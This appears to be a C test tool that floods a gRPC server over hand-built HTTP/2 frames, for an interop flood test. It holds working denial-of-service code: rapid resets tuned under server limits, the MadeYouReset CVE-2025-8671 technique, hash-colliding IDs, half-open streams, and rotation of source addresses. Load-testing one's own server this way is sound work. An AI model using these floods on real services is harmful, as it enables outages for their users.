/* A client that means harm, as fast as a machine can mean it: HTTP/2 frames by hand (RFC 9113, RFC
 * 7541) on some connections, each made anew when the server ends it. For
 * tests/interop/flood_test.py.
 *
 *   flooder KIND HOST:PORT CONNECTIONS SECONDS SOURCE[,SOURCE...]
 *
 * KIND is what is sent, see `kinds`. Connections come from the source addresses in turn. At the
 * end a line of JSON says what was sent and how often a connection was ended. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_DATA          0
#define FRAME_HEADERS       1
#define FRAME_RST_STREAM    3
#define FRAME_SETTINGS      4
#define FRAME_WINDOW_UPDATE 8
#define FLAG_END_STREAM     0x1
#define FLAG_ACK            0x1
#define FLAG_END_HEADERS    0x4
#define HEAD_BYTES          9
#define CANCEL              8
#define OUT_BYTES           ((size_t)256 * 1024) /* what is made at a time, and a call more */
#define CALL_BYTES_MAX      ((size_t)128 * 1024)
#define WINDOW_START        65535
#define WINDOW_MOST         0x7fffffffu
#define FRAME_MOST          16384
#define SOURCES_MAX         64
#define HALF_OPEN_CALLS     990
#define RESETS_PER_SECOND   4700 /* under limits.cancels_per_second */
#define COLLIDING_IDS       10000
#define COLLIDING_AT_ONCE   4
#define STREAMS_AT_ONCE     90 /* under limits.streams_per_connection */
#define RECONNECT_PAUSE_US  1000

struct client {
    int fd; /* -1: to be connected */
    bool is_connecting;
    bool has_table; /* the header fields are in the server's table */
    bool is_done;   /* has nothing more to say */
    uint32_t stream;
    uint64_t begun_us;
    uint64_t calls; /* of this connection */
    uint64_t answers;
    int64_t window; /* the connection's, for our DATA */
    uint8_t head[HEAD_BYTES];
    size_t head_length;
    size_t skip;
    uint8_t payload[4]; /* the first bytes of a frame's contents */
    size_t payload_length;
    uint8_t *out;
    size_t out_length;
    size_t out_sent;
};

struct kind {
    const char *name;
    const char *path;
    const char *timeout; /* NULL: no grpc-timeout */
    /* Adds a call or more to what the client sends. False: not now. */
    /* NULL: nothing is sent but the greeting. */
    bool (*fill)(struct client *client, const struct kind *kind);
};

static struct {
    const struct kind *kind;
    struct sockaddr_in server;
    struct sockaddr_in sources[SOURCES_MAX];
    size_t source_count;
    size_t next_source;
    uint64_t calls;
    uint64_t answers;
    uint64_t connects;
    uint64_t ended;     /* connections, by the server */
    uint64_t failed;    /* connections that could not be made */
    uint8_t *colliding; /* a message */
    size_t colliding_length;
} flood;

static uint64_t now_us(void)
{
    struct timespec now;
    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000000 + (uint64_t)now.tv_nsec / 1000;
}

/* ---- frames ---- */

static void put(struct client *client, const void *bytes, size_t length)
{
    memcpy(client->out + client->out_length, bytes, length);
    client->out_length += length;
}

static void put_frame(struct client *client, uint8_t type, uint8_t flags, uint32_t stream,
    const void *contents, size_t length)
{
    const uint8_t head[HEAD_BYTES] = {(uint8_t)(length >> 16), (uint8_t)(length >> 8),
        (uint8_t)length, type, flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16),
        (uint8_t)(stream >> 8), (uint8_t)stream};
    put(client, head, sizeof(head));
    if (length > 0)
        put(client, contents, length);
}

static size_t put_field(uint8_t *block, size_t at, const char *name, const char *value)
{
    size_t name_length = strlen(name);
    size_t value_length = strlen(value);
    block[at++] = 0x40; /* RFC 7541, section 6.2.1 */
    block[at++] = (uint8_t)name_length;
    memcpy(block + at, name, name_length);
    at += name_length;
    block[at++] = (uint8_t)value_length;
    memcpy(block + at, value, value_length);
    return at + value_length;
}

static bool fill_made_you_reset(struct client *client, const struct kind *kind);

/* A new stream's HEADERS; its number. */
static uint32_t put_headers(struct client *client, const struct kind *kind)
{
    const char *fields[][2] = {{":path", kind->path}, {":authority", "x"},
        {"content-type", "application/grpc"}, {"te", "trailers"}, {"grpc-timeout", kind->timeout}};
    size_t count = kind->fill == fill_made_you_reset ? 3 : kind->timeout == NULL ? 4 : 5;
    uint8_t block[256] = {0x83, 0x86}; /* POST, http */
    size_t length = 2;
    for (size_t i = 0; i < count; i++) {
        if (client->has_table)
            block[length++] = (uint8_t)(0x80 | (62 + count - 1 - i));
        else
            length = put_field(block, length, fields[i][0], fields[i][1]);
    }
    client->has_table = true;
    uint32_t stream = client->stream;
    client->stream += 2;
    put_frame(client, FRAME_HEADERS, FLAG_END_HEADERS, stream, block, length);
    client->calls++;
    flood.calls++;
    return stream;
}

static void put_data(
    struct client *client, uint32_t stream, const uint8_t *bytes, size_t length, uint8_t flags)
{
    client->window -= (int64_t)length;
    while (length > FRAME_MOST) {
        put_frame(client, FRAME_DATA, 0, stream, bytes, FRAME_MOST);
        bytes += FRAME_MOST;
        length -= FRAME_MOST;
    }
    put_frame(client, FRAME_DATA, flags, stream, bytes, length);
}

static void put_number(uint8_t bytes[4], uint32_t number)
{
    bytes[0] = (uint8_t)(number >> 24);
    bytes[1] = (uint8_t)(number >> 16);
    bytes[2] = (uint8_t)(number >> 8);
    bytes[3] = (uint8_t)number;
}

static const uint8_t id_message[] = {0, 0, 0, 0, 2, 0x08, 0x01};

/* ---- kinds ---- */

/* Calls that have expired when they come, more than the server allows. */
static bool fill_expired(struct client *client, const struct kind *kind)
{
    if (client->window < (int64_t)sizeof(id_message))
        return false;
    put_data(client, put_headers(client, kind), id_message, sizeof(id_message), FLAG_END_STREAM);
    return true;
}

/* One stream, and questions without end. */
static bool fill_reflection(struct client *client, const struct kind *kind)
{
    static const uint8_t question[] = {0, 0, 0, 0, 2, 0x3a, 0x00}; /* list_services: "" */
    if (client->stream == 1)
        (void)put_headers(client, kind);
    if (client->window < (int64_t)sizeof(question))
        return false;
    put_data(client, 1, question, sizeof(question), 0);
    return true;
}

/* As many calls as may be, and no message. */
static bool fill_half_open(struct client *client, const struct kind *kind)
{
    for (int i = 0; i < HALF_OPEN_CALLS; i++)
        (void)put_headers(client, kind);
    client->is_done = true;
    return true;
}

static bool fill_colliding(struct client *client, const struct kind *kind)
{
    if (client->calls - client->answers >= COLLIDING_AT_ONCE ||
        client->window < (int64_t)flood.colliding_length)
        return false;
    put_data(client, put_headers(client, kind), flood.colliding, flood.colliding_length,
        FLAG_END_STREAM);
    return true;
}

/* Calls that are taken back, just under the limit of what may be. */
static bool fill_resets(struct client *client, const struct kind *kind)
{
    uint8_t code[4];
    uint64_t allowed = (now_us() - client->begun_us) * RESETS_PER_SECOND / 1000000;
    if (client->calls >= allowed || client->window < (int64_t)sizeof(id_message))
        return false;
    uint32_t stream = put_headers(client, kind);
    put_data(client, stream, id_message, sizeof(id_message), FLAG_END_STREAM);
    put_number(code, CANCEL);
    put_frame(client, FRAME_RST_STREAM, 0, stream, code, sizeof(code));
    return true;
}

/* MadeYouReset (CVE-2025-8671): streams that the server takes back itself (RST_STREAM). The C core
 * does so for calls without the field "te", and ends the connection for most other mistakes. */
static bool fill_made_you_reset(struct client *client, const struct kind *kind)
{
    if (client->calls - client->answers >= STREAMS_AT_ONCE ||
        client->window < (int64_t)sizeof(id_message))
        return false;
    put_data(client, put_headers(client, kind), id_message, sizeof(id_message), FLAG_END_STREAM);
    return true;
}

static const struct kind kinds[] = {
    {"expired", "/user.User/GetUser", "1u", fill_expired},
    {"reflection", "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", NULL,
        fill_reflection},
    {"half_open", "/user.User/GetUser", NULL, fill_half_open},
    {"colliding_ids", "/user_post.UserPost/GetByIDs", NULL, fill_colliding},
    {"many_ids", "/user_post.UserPost/GetByIDs", NULL, fill_colliding},
    {"resets", "/user.User/GetUser", NULL, fill_resets},
    {"made_you_reset", "/user.User/GetUser", NULL, fill_made_you_reset},
    {"idle", "", NULL, NULL},
};

/* Ids that meet in a table of 2^15 places which multiplies by the golden ratio; or others. */
static void make_ids(bool are_colliding)
{
    flood.colliding = malloc(CALL_BYTES_MAX);
    if (flood.colliding == NULL)
        abort();
    uint8_t *next =
        flood.colliding + 9; /* behind the prefix, the key, and a length of three bytes */
    uint32_t id = 0;
    for (int found = 0; found < COLLIDING_IDS && id < INT32_MAX; id++) {
        if (are_colliding ? (id * UINT64_C(0x9e3779b97f4a7c15) >> 32 & 0x7fff) != 0
                          : id % 32771 != 0)
            continue;
        found++;
        uint32_t rest = id;
        for (; rest > 0x7f; rest >>= 7)
            *next++ = (uint8_t)(rest | 0x80);
        *next++ = (uint8_t)rest;
    }
    size_t ids = (size_t)(next - flood.colliding) - 9;
    flood.colliding[0] = 0;
    put_number(flood.colliding + 1, (uint32_t)(ids + 4));
    flood.colliding[5] = 0x0a; /* field 1, packed */
    flood.colliding[6] = (uint8_t)(ids | 0x80);
    flood.colliding[7] = (uint8_t)(ids >> 7 | 0x80);
    flood.colliding[8] = (uint8_t)(ids >> 14);
    flood.colliding_length = ids + 9;
}

/* ---- connections ---- */

static void end_client(struct client *client, uint64_t *counter)
{
    (*counter)++;
    (void)close(client->fd);
    client->fd = -1;
    client->begun_us = now_us();
}

static void greet(struct client *client)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    uint8_t window[6] = {0, 4}; /* SETTINGS_INITIAL_WINDOW_SIZE */
    uint8_t increment[4];
    put_number(window + 2, WINDOW_MOST);
    put_number(increment, WINDOW_MOST - WINDOW_START);
    put(client, preface, sizeof(preface) - 1);
    put_frame(client, FRAME_SETTINGS, 0, 0, window, sizeof(window));
    put_frame(client, FRAME_WINDOW_UPDATE, 0, 0, increment, sizeof(increment));
}

static void connect_client(struct client *client)
{
    const struct sockaddr_in *source = &flood.sources[flood.next_source++ % flood.source_count];
    uint8_t *out = client->out;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    *client = (struct client){.fd = fd,
        .is_connecting = true,
        .is_done = flood.kind->fill == NULL,
        .stream = 1,
        .begun_us = now_us(),
        .window = WINDOW_START,
        .out = out};
    flood.connects++;
    if (fd < 0 || bind(fd, (const struct sockaddr *)source, sizeof(*source)) != 0 ||
        (connect(fd, (const struct sockaddr *)&flood.server, sizeof(flood.server)) != 0 &&
            errno != EINPROGRESS)) {
        end_client(client, &flood.failed);
        return;
    }
    greet(client);
}

/* A frame of the server's has come, with the first four bytes of its contents. */
static void take_frame(struct client *client)
{
    uint8_t type = client->head[3];
    uint8_t flags = client->head[4];
    bool is_of_connection =
        (client->head[5] | client->head[6] | client->head[7] | client->head[8]) == 0;
    if (type == FRAME_SETTINGS && (flags & FLAG_ACK) == 0 && client->out_length < OUT_BYTES)
        put_frame(client, FRAME_SETTINGS, FLAG_ACK, 0, NULL, 0);
    if (type == FRAME_WINDOW_UPDATE && is_of_connection)
        client->window +=
            (int64_t)((uint32_t)client->payload[0] << 24 | (uint32_t)client->payload[1] << 16 |
                      (uint32_t)client->payload[2] << 8 | client->payload[3]);
    if (type == FRAME_HEADERS && (flags & FLAG_END_STREAM) != 0) {
        client->answers++;
        flood.answers++;
    }
}

static void take_bytes(struct client *client, const uint8_t *bytes, size_t length)
{
    for (size_t i = 0; i < length; i++) {
        if (client->skip > 0) {
            if (client->payload_length < sizeof(client->payload)) {
                client->payload[client->payload_length++] = bytes[i];
            } else {
                size_t most = length - i < client->skip ? length - i : client->skip;
                i += most - 1;
                client->skip -= most - 1;
            }
            if (--client->skip == 0)
                take_frame(client);
            continue;
        }
        client->head[client->head_length++] = bytes[i];
        if (client->head_length < HEAD_BYTES)
            continue;
        client->head_length = 0;
        client->payload_length = 0;
        client->skip =
            (size_t)client->head[0] << 16 | (size_t)client->head[1] << 8 | client->head[2];
        if (client->skip == 0)
            take_frame(client);
    }
}

/* False: the connection is over. */
static bool read_client(struct client *client)
{
    static uint8_t bytes[65536];
    ssize_t length = recv(client->fd, bytes, sizeof(bytes), 0);
    if (length > 0)
        take_bytes(client, bytes, (size_t)length);
    return length > 0 || (length < 0 && (errno == EAGAIN || errno == EINTR));
}

static void fill_client(struct client *client)
{
    while (
        !client->is_done && client->out_length < OUT_BYTES && flood.kind->fill(client, flood.kind))
        continue;
}

static bool write_client(struct client *client)
{
    client->is_connecting = false;
    ssize_t length = send(client->fd, client->out + client->out_sent,
        client->out_length - client->out_sent, MSG_NOSIGNAL);
    if (length < 0)
        return errno == EAGAIN || errno == EINTR;
    client->out_sent += (size_t)length;
    if (client->out_sent == client->out_length) {
        client->out_sent = 0;
        client->out_length = 0;
    }
    return true;
}

static void serve_client(struct client *client, short events)
{
    bool is_alive = (events & (POLLERR | POLLNVAL)) == 0;
    if (is_alive && (events & (POLLIN | POLLHUP)) != 0)
        is_alive = read_client(client);
    if (is_alive && client->out_length > client->out_sent && (events & POLLOUT) != 0)
        is_alive = write_client(client);
    if (!is_alive)
        end_client(client, client->is_connecting ? &flood.failed : &flood.ended);
}

static void run(struct client *clients, struct pollfd *waits, size_t count, uint64_t end_us)
{
    while (now_us() < end_us) {
        for (size_t i = 0; i < count; i++) {
            struct client *client = &clients[i];
            if (client->fd < 0 && now_us() - client->begun_us >= RECONNECT_PAUSE_US)
                connect_client(client);
            if (client->fd >= 0 && !client->is_connecting && client->out_length == 0)
                fill_client(client);
            waits[i] = (struct pollfd){.fd = client->fd,
                .events = (short)(POLLIN | (client->out_length > 0 ? POLLOUT : 0))};
        }
        (void)poll(waits, count, 1);
        for (size_t i = 0; i < count; i++) {
            if (clients[i].fd >= 0 && waits[i].fd == clients[i].fd && waits[i].revents != 0)
                serve_client(&clients[i], waits[i].revents);
        }
    }
}

/* ---- the command ---- */

static struct sockaddr_in parse_address(char *text)
{
    struct sockaddr_in address = {.sin_family = AF_INET};
    char *colon = strchr(text, ':');
    if (colon != NULL) {
        *colon = '\0';
        address.sin_port = htons((uint16_t)strtoul(colon + 1, NULL, 10));
    }
    if (inet_pton(AF_INET, text, &address.sin_addr) != 1) {
        fprintf(stderr, "flooder: %s: not an IPv4 address\n", text);
        exit(EXIT_FAILURE);
    }
    return address;
}

static void parse_sources(char *text)
{
    for (char *one = strtok(text, ","); one != NULL && flood.source_count < SOURCES_MAX;
         one = strtok(NULL, ","))
        flood.sources[flood.source_count++] = parse_address(one);
}

int main(int argc, char **argv)
{
    for (size_t i = 0; argc == 6 && i < sizeof(kinds) / sizeof(kinds[0]); i++) {
        if (strcmp(kinds[i].name, argv[1]) == 0)
            flood.kind = &kinds[i];
    }
    if (flood.kind == NULL) {
        fprintf(
            stderr, "flooder: expected KIND HOST:PORT CONNECTIONS SECONDS SOURCE[,SOURCE...]\n");
        return EXIT_FAILURE;
    }
    flood.server = parse_address(argv[2]);
    size_t count = strtoul(argv[3], NULL, 10);
    double seconds = strtod(argv[4], NULL);
    parse_sources(argv[5]);
    if (flood.kind->fill == fill_colliding)
        make_ids(strcmp(argv[1], "colliding_ids") == 0);
    struct client *clients = calloc(count, sizeof(*clients));
    struct pollfd *waits = calloc(count, sizeof(*waits));
    for (size_t i = 0; clients != NULL && i < count; i++) {
        clients[i].fd = -1;
        clients[i].out =
            malloc(OUT_BYTES + CALL_BYTES_MAX); /* pages that are not used cost nothing */
        if (clients[i].out == NULL)
            return EXIT_FAILURE;
    }
    if (clients == NULL || waits == NULL || flood.source_count == 0)
        return EXIT_FAILURE;
    (void)signal(SIGPIPE, SIG_IGN);
    printf("begun\n");
    (void)fflush(stdout);
    run(clients, waits, count, now_us() + (uint64_t)(seconds * 1e6));
    printf("{\"calls\": %llu, \"answers\": %llu, \"connects\": %llu, \"ended\": %llu, \"failed\": "
           "%llu}\n",
        (unsigned long long)flood.calls, (unsigned long long)flood.answers,
        (unsigned long long)flood.connects, (unsigned long long)flood.ended,
        (unsigned long long)flood.failed);
    return EXIT_SUCCESS;
}
